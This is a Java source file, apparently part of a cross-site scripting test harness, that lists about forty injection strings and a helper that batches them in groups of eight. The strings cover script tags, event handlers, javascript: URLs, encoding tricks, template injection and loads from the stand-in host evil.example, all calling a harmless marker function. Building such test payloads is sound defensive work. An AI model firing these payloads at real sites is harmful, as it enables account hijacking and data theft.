package dev.scrip.infra;

import java.util.ArrayList;
import java.util.List;

/** Texts that run {@link Visitor#ALARM} where a page takes them for something else than text. */
final class Payloads {

    private static final String RUN = "scripRan()";

    static final List<String> ALL = List.of(
            "<script>" + RUN + "</script>",
            "<img src=x onerror=" + RUN + ">",
            "<svg onload=" + RUN + ">",
            "\"><script>" + RUN + "</script>",
            "'><img src=x onerror=" + RUN + ">",
            "</title><script>" + RUN + "</script>",
            "</textarea><svg/onload=" + RUN + ">",
            "<iframe srcdoc=\"<script>parent." + RUN + "</script>\"></iframe>",
            "<a href=\"javascript:" + RUN + "\">x</a>",
            "javascript:" + RUN,
            "\" onfocus=" + RUN + " autofocus x=\"",
            "' onmouseover='" + RUN + "' x='",
            "<details open ontoggle=" + RUN + ">",
            "<video><source onerror=" + RUN + "></video>",
            "<body onload=" + RUN + ">",
            "<input autofocus onfocus=" + RUN + ">",
            "<style>@import '//evil.example/x.css'</style>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<meta http-equiv=refresh content=0;url=//evil.example>",
            "<base href=//evil.example/>",
            "<object data=\"javascript:" + RUN + "\"></object>",
            "<embed src=\"javascript:" + RUN + "\">",
            "<form action=//evil.example><button>x</button></form>",
            "<math><mtext><script>" + RUN + "</script></mtext></math>",
            "<svg><script>" + RUN + "</script></svg>",
            "<svg><a xlink:href=\"javascript:" + RUN + "\"><text>x</text></a></svg>",
            "<img src=`x` onerror=" + RUN + ">",
            "<img/src=x/onerror=" + RUN + ">",
            "<ScRiPt>" + RUN + "</sCrIpT>",
            "<<script>" + RUN + "//<</script>",
            "<script src=//evil.example/x.js></script>",
            "<img src=//evil.example/x.png>",
            "&lt;script&gt;" + RUN + "&lt;/script&gt;",
            "&#60;script&#62;" + RUN + "&#60;/script&#62;",
            "\\u003cscript\\u003e" + RUN + "\\u003c/script\\u003e",
            "{{constructor.constructor('" + RUN + "')()}}",
            "${" + RUN + "}",
            "<template><script>" + RUN + "</script></template>",
            "--><script>" + RUN + "</script>",
            "]]><script>" + RUN + "</script>");

    private Payloads() {}

    static List<List<String>> inEights() {
        List<List<String>> all = new ArrayList<>();
        for (int at = 0; at + 8 <= ALL.size(); at += 8) {
            all.add(ALL.subList(at, at + 8));
        }
        return all;
    }
}
